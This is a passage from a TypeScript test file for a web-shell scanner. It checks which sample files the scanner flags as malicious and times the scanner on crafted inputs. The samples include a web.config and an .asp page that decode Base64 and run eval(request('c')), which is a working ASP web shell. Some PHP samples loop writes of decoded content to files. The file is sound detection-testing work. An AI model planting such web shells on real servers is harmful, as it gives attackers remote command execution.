  [undefined, 'not malicious: a page calling GetTickCount by DllImport and copying a buffer with Marshal.Copy', '/www/info.aspx', `<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport(@"kernel32.dll")] static extern uint GetTickCount();
protected void Page_Load(object s, EventArgs e) { byte[] b = new byte[4]; System.Runtime.InteropServices.Marshal.Copy(new IntPtr(0), b, 0, 0); Response.Write(GetTickCount()); }
</script>`, 'not-malicious'],
];

// S27R-8: classic ASP running Base64 decoded by MSXML (a web.config's ASP, set up as a handler for .config)
const ASP_B64 = (inner: string) => `<%
Function Base64Decode(s)
  Set d = CreateObject("Msxml2.DOMDocument.3.0").createElement("b64")
  d.dataType = "bin.base64"
  d.text = s
  Set st = CreateObject("ADODB.Stream")
  st.Type = 1: st.Open: st.Write d.nodeTypedValue: st.Position = 0: st.Type = 2: st.Charset = "us-ascii"
  Base64Decode = st.ReadText
End Function
ExecuteGlobal Base64Decode("${b64(inner)}")
%>`;
CASES.push(
  [undefined, 'S27R-8 (fixed here): a web.config whose ASP runs ExecuteGlobal of Base64 decoded by MSXML (clean at 9472fb8)', '/www/upload/web.config', `<?xml version="1.0" encoding="UTF-8"?>
<configuration>
  <system.webServer>
    <handlers accessPolicy="Read, Script, Write">
      <add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" />
    </handlers>
  </system.webServer>
</configuration>
<!-- ${ASP_B64('Response.Write eval(request("c"))\r\n')} -->`, 'malicious', 'mamori_asp_execute_decoder'],
  [undefined, 'S27R-8 (fixed here): the same in an .asp page', '/www/x.asp', ASP_B64('Response.Write eval(request("c"))\r\n'), 'malicious', 'mamori_asp_execute_decoder'],
  [undefined, 'not malicious: an ASP page sending a Base64 attachment decoded by MSXML, and conn.Execute of SQL', '/www/download.asp', `<%
Set d = CreateObject("Msxml2.DOMDocument.3.0").createElement("b64")
d.dataType = "bin.base64"
d.text = rs("body")
conn.Execute("UPDATE files SET hits = hits + 1 WHERE id = " & CLng(Request("id")))
Response.ContentType = "application/octet-stream"
Response.BinaryWrite d.nodeTypedValue
%>`, 'not-malicious'],
);

describe('scan: red team s27, the session\'s changes and its new detections', () => {
  for (const [id, what, path, src, expect, rule] of CASES) {
    it(`${id ? `${id}: ` : ''}${expect}: ${what}`, id ? { todo: TODO[id] ?? id } : {}, () => {
      const r = scan(src, path);
      const why = JSON.stringify({ verdict: r.verdict, score: r.score, findings: r.findings.map((f) => `${f.rule} ${f.score}`) });
      if (expect === 'malicious') assert.equal(r.verdict, 'malicious', why);
      else if (expect === 'flagged') assert.notEqual(r.verdict, 'clean', why);
      else if (expect === 'not-malicious') assert.notEqual(r.verdict, 'malicious', why);
      else assert.equal(r.verdict, 'clean', why);
      if (rule) assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${why}`);
    });
  }
});

// The cost of the new checks on crafted files (times printed, not asserted)
describe('scan: red team s27, the cost of the new checks', () => {
  const fill = (head: string, unit: (i: number) => string, size: number): string => {
    let s = head;
    for (let i = 0; s.length < size; i++) s += unit(i);
    return s;
  };
  const K = 1000 * 1024;
  const cases: [string, string | Buffer][] = [
    ['loop heads with a writer each, ignore_user_abort on', fill('<?php ignore_user_abort(1); $f = "a.php"; ', () => 'while (1) { file_put_contents($f, $x); } ', K)],
    ['do blocks never closed', fill('<?php ignore_user_abort(1); file_put_contents($f, 1); ', () => 'do { ', K)],
    ['gotos without labels', fill('<?php ignore_user_abort(1); file_put_contents($f, 1); ', (i) => `goto l${i}; `, K)],
    ['functions calling themselves', fill('<?php ignore_user_abort(1); ', (i) => `function f${i}() { file_put_contents('a.php', 1); usleep(1); f${i}(); } `, K)],
    ['writes of decoded literals under names in variables', fill('<?php $n = "a.php"; ', () => "file_put_contents($n, base64_decode($p)); ", K)],
    ['many assignments, then loops of writers whose names are variables', fill('<?php ignore_user_abort(1); ', (i) => (i < 16000 ? `$v${i % 50} = $w . 'x${i}';` : `while (1) { ${'file_put_contents($v1 . $v2 . $v3, $v4 . $v5); '.repeat(64)} } `), K)],
    ['writes of variables each holding the one before, input first, names .php', fill('<?php $a0 = $_POST[1]; ', (i) => `$a${i + 1} = base64_decode($a${i}); $a${i + 1} = trim($a${i}); file_put_contents('x${i}.php', $a${i + 1} . 1);`, K)],
    ['properties assigned from each other, loops writing to properties', fill('<?php ignore_user_abort(1); ', (i) => (i < 16000 ? `$o->p${i % 50} = $o->p${(i + 1) % 50} . 'x';` : `while (1) { ${'file_put_contents($this->p1 . $k->p2, $this->p3 . $k->p4); '.repeat(64)} } `), K)],
    ['loops never closed, each longer than 64 KiB', fill('<?php ignore_user_abort(1); file_put_contents($f, 1); ', () => 'while (1) { do { for (;;) { ', K)],
    ['writers named to call_user_func in a loop', fill('<?php set_time_limit(0); while (1) { ', () => "call_user_func('file_put_contents', $f . $g, $h); ", K)],
    ['a picture with 256 "<%" of UTF-8 and no "%>"', Buffer.concat([GIF, Buffer.from('<%é'.repeat(256) + 'é'.repeat(K / 2), 'utf8')])],
    ['a picture with 4,000 "<%" of UTF-8, each a block of 16 KiB less 2 bytes', Buffer.concat([GIF, Buffer.from('<%é'.repeat(4000) + 'é'.repeat(8190) + '%>', 'utf8')])],
  ];
  for (const [what, src] of cases) {
    it(`${what}: scanned`, () => {
      const t = process.hrtime.bigint();
      scan(src, Buffer.isBuffer(src) ? '/www/x.gif' : '/www/x.php');
      const ms = Number(process.hrtime.bigint() - t) / 1e6;
      console.log(`# s27 cost: ${what} (${src.length} bytes): ${ms.toFixed(1)} ms`);
    });
  }
});
